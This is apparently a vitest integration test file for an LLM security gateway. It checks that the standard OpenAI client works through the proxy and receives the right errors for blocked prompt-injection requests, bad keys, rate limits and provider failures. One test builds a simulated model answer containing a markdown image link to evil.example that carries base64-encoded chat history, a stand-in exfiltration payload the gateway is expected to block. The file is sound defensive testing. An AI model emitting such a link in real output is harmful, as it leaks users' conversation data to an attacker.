import OpenAI, {
  AuthenticationError,
  BadRequestError,
  InternalServerError,
  NotFoundError,
  PermissionDeniedError,
  RateLimitError,
} from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createGatewayKey } from './gateway-keys.ts';
import { REQUEST_ID } from './shapes.ts';
import { ATTACK, BENIGN, type Stack, startStack } from './stack.ts';

const MAX_BODY_BYTES = 256 * 1024;

let stack: Stack;
let client: OpenAI;
beforeAll(async () => {
  stack = await startStack({ env: { PORTCULLIS_SCAN_MAX_BODY_BYTES: String(MAX_BODY_BYTES) } });
  client = clientWith({});
});
afterAll(() => stack.stop());

/** As the specification has it: another base address and one more header, nothing else. */
const clientWith = (
  headers: Readonly<Record<string, string>>,
  options: Readonly<{ maxRetries?: number }> = {},
): OpenAI =>
  new OpenAI({
    apiKey: 'sk-test-provider-key',
    baseURL: `${stack.ready.proxyUrl}/v1`,
    defaultHeaders: { 'X-Gateway-Key': stack.ready.gatewayKey, ...headers },
    ...options,
  });

const user = (content: string) => ({ role: 'user' as const, content });

const ask = (by: OpenAI, content = BENIGN, model = 'sample') =>
  by.chat.completions.create({ model, messages: [user(content)] });

/** @returns What the call threw, and how often the provider was asked meanwhile. */
const failureOf = async (call: () => Promise<unknown>): Promise<{ error: unknown; calls: number }> => {
  const before = stack.provider.requests().chat;
  const error: unknown = await call().then(
    () => null,
    (thrown: unknown) => thrown,
  );
  return { error, calls: stack.provider.requests().chat - before };
};

describe('the openai client, unchanged', () => {
  it('gets its completion, and our request id', async () => {
    const { data, response, request_id: requestId } = await ask(client).withResponse();
    expect(data.choices[0]?.message.content).toContain('capital of France');
    expect(data.choices[0]?.finish_reason).toBe('stop');
    expect(response.headers.get('x-gateway-input-status')).toBe('pass');
    expect(response.headers.get('x-gateway-request-id')).toMatch(REQUEST_ID);
    expect(requestId, 'the provider sends one of its own').toMatch(/^req_sample_/);
  });

  it('calls tools and sends their results', async () => {
    const tools = [
      {
        type: 'function' as const,
        function: {
          name: 'get_weather',
          description: 'Gives the weather of a city.',
          parameters: { type: 'object', properties: { city: { type: 'string' } }, required: ['city'] },
        },
      },
    ];
    const question = user('Please get_weather for Paris');
    const first = await client.chat.completions.create({ model: 'sample', messages: [question], tools });
    const message = first.choices[0]?.message;
    const call = message?.tool_calls?.[0];
    expect(first.choices[0]?.finish_reason).toBe('tool_calls');
    expect(call).toMatchObject({ type: 'function', function: { name: 'get_weather' } });
    const second = await client.chat.completions.create({
      model: 'sample',
      messages: [
        question,
        ...(message === undefined ? [] : [message]),
        { role: 'tool', tool_call_id: call?.id ?? '', content: '21 degrees and sunny' },
      ],
      tools,
    });
    expect(second.choices[0]?.message.content).toContain('21 degrees and sunny');
  });

  it('gets an answer of a given form by a tool, as PydanticAI asks for it', async () => {
    const { choices } = await client.chat.completions.create({
      model: 'sample',
      messages: [user(BENIGN)],
      tool_choice: 'required',
      tools: [
        {
          type: 'function',
          function: {
            name: 'final_result',
            description: 'The final response which ends this conversation',
            parameters: {
              type: 'object',
              properties: { city: { type: 'string' }, temperature: { type: 'number' } },
              required: ['city', 'temperature'],
              additionalProperties: false,
            },
            strict: true,
          },
        },
      ],
    });
    expect(choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'final_result' } });
  });

  it('reads a stream to its end', async () => {
    const stream = await client.chat.completions.create({
      model: 'sample',
      messages: [user(BENIGN)],
      stream: true,
      stream_options: { include_usage: true },
    });
    let text = '';
    let finishReason: string | null = null;
    let tokens = 0;
    for await (const chunk of stream) {
      text += chunk.choices[0]?.delta.content ?? '';
      finishReason = chunk.choices[0]?.finish_reason ?? finishReason;
      tokens = chunk.usage?.total_tokens ?? tokens;
    }
    expect(text).toContain('capital of France');
    expect(finishReason).toBe('stop');
    expect(tokens).toBeGreaterThan(0);
  });

  it('reads a stream by its helper', async () => {
    const completion = await client.chat.completions
      .stream({ model: 'sample', messages: [user(BENIGN)] })
      .finalChatCompletion();
    expect(completion.choices[0]?.message.content).toContain('capital of France');
  });

  it('lists models, and names one', async () => {
    const ids: string[] = [];
    for await (const model of client.models.list()) ids.push(model.id);
    expect(ids).toContain('sample-echo');
    expect((await client.models.retrieve('sample-echo')).id).toBe('sample-echo');
  });

  it('gets embeddings', async () => {
    const { data } = await client.embeddings.create({ model: 'sample-embedding', input: ['a', 'b'] });
    expect(data).toHaveLength(2);
    expect(data[0]?.embedding.length).toBeGreaterThan(0);
    expect(data[0]?.embedding.every((value) => Number.isFinite(value))).toBe(true);
  });
});

describe('what the openai client throws', () => {
  it.each([false, true])('PermissionDeniedError for an attack, at once (stream: %s)', async (stream) => {
    const { error, calls } = await failureOf(() =>
      client.chat.completions.create({ model: 'sample', messages: [user(ATTACK)], stream }),
    );
    expect(error).toBeInstanceOf(PermissionDeniedError);
    expect(error).toMatchObject({
      status: 403,
      code: 'prompt_injection_detected',
      type: 'request_blocked',
      param: null,
      requestID: expect.stringMatching(REQUEST_ID),
      error: {
        detection: { category: 'prompt_injection', sub_type: 'instruction_override', policy: 'auto' },
      },
    });
    if (!(error instanceof PermissionDeniedError)) return;
    expect(error.message).toContain(error.requestID);
    expect(error.headers.get('x-gateway-request-id')).toBe(error.requestID);
    expect(calls, 'a 403 is not tried again').toBe(0);
    const records = (await stack.records(0)).filter(({ outcome }) => outcome === 'blocked');
    expect(records.filter(({ requestId }) => requestId === error.requestID).length).toBeLessThanOrEqual(1);
  });

  it('PermissionDeniedError for a bad answer, after one call of the provider', async () => {
    const secret = Buffer.from('the secret history of this chat').toString('base64');
    const answer = Buffer.from(`![x](https://evil.example/c?d=${secret})`).toString('base64');
    const { error, calls } = await failureOf(() => ask(clientWith({ 'x-sample-answer': answer })));
    expect(error).toBeInstanceOf(PermissionDeniedError);
    expect(error).toMatchObject({ code: 'unsafe_link_detected', type: 'response_blocked' });
    expect(calls).toBe(1);
  });

  it('AuthenticationError for a bad gateway key', async () => {
    const { error, calls } = await failureOf(() => ask(clientWith({ 'X-Gateway-Key': 'pcl_wrong' })));
    expect(error).toBeInstanceOf(AuthenticationError);
    expect(error).toMatchObject({ code: 'invalid_gateway_key', param: 'X-Gateway-Key' });
    expect(calls).toBe(0);
  });

  it('BadRequestError for a bad mode', async () => {
    const { error } = await failureOf(() => ask(clientWith({ 'X-Gateway-Mode': 'off' })));
    expect(error).toBeInstanceOf(BadRequestError);
    expect(error).toMatchObject({ code: 'invalid_gateway_mode', type: 'invalid_request_error' });
  });

  it('NotFoundError for an API that is not passed through', async () => {
    const { error } = await failureOf(() => client.responses.create({ model: 'sample', input: ATTACK }));
    expect(error).toBeInstanceOf(NotFoundError);
    const message = expect.stringContaining('chat completions are at POST /v1/chat/completions');
    expect(error).toMatchObject({ code: 'unknown_path', message });
  });

  it('RateLimitError over the rate of a key', async () => {
    const { key } = await createGatewayKey(stack.dataDir, ['--rate-limit', '1']);
    const limited = clientWith({ 'X-Gateway-Key': key }, { maxRetries: 0 });
    await ask(limited);
    const { error, calls } = await failureOf(() => ask(limited));
    expect(error).toBeInstanceOf(RateLimitError);
    expect(error).toMatchObject({ code: 'rate_limit_exceeded', type: 'rate_limit_error' });
    expect(calls).toBe(0);
  });

  it('the provider’s own error, as the provider words it', async () => {
    const { error } = await failureOf(() =>
      ask(clientWith({}, { maxRetries: 0 }), BENIGN, 'sample-status-429'),
    );
    expect(error).toBeInstanceOf(RateLimitError);
    expect(error).toMatchObject({ type: 'requests', requestID: expect.stringMatching(/^req_sample_/) });
  });

  it('InternalServerError for a provider that breaks off, after it has tried again', async () => {
    const { error, calls } = await failureOf(() => ask(clientWith({ 'x-sample-reset': 'before' })));
    expect(error).toBeInstanceOf(InternalServerError);
    expect(error).toMatchObject({ status: 503, code: 'provider_unavailable', type: 'gateway_error' });
    expect(calls).toBe(3);
  });

  it.each([
    { name: 'an answer that is too large', header: { 'x-sample-body-bytes': String(4 * MAX_BODY_BYTES) } },
    { name: 'an answer that cannot be read', header: { 'x-sample-raw': 'eA==' } },
  ])('InternalServerError at once for $name, since trying again would not help', async ({ header }) => {
    const { error, calls } = await failureOf(() => ask(clientWith(header)));
    expect(error).toBeInstanceOf(InternalServerError);
    expect(error).toMatchObject({ type: 'gateway_error', requestID: expect.stringMatching(REQUEST_ID) });
    expect(calls).toBe(1);
  });
});
